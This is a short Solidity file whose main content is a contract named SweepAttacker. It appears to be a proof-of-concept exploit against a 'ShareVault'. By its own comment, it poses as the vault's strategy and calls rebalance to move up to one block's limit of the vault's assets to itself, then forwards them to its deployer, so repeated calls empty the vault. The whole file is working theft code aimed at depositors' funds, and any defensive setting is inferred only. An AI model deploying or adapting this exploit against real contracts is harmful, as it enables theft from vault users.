// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface ISweepToken {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
}

interface ISweepVault {
    function asset() external view returns (ISweepToken);
    function blockLimit() external view returns (uint256);
    function rebalance(address, uint256) external;
}

/// Names itself the strategy of a ShareVault and takes one block's limit a call; four calls empty it.
contract SweepAttacker {
    address private immutable owner = msg.sender;

    function sweep(ISweepVault vault) external {
        ISweepToken asset = vault.asset();
        uint256 there = asset.balanceOf(address(vault));
        uint256 limit = vault.blockLimit();
        vault.rebalance(address(this), there < limit ? there : limit);
        asset.transfer(owner, asset.balanceOf(address(this)));
    }
}
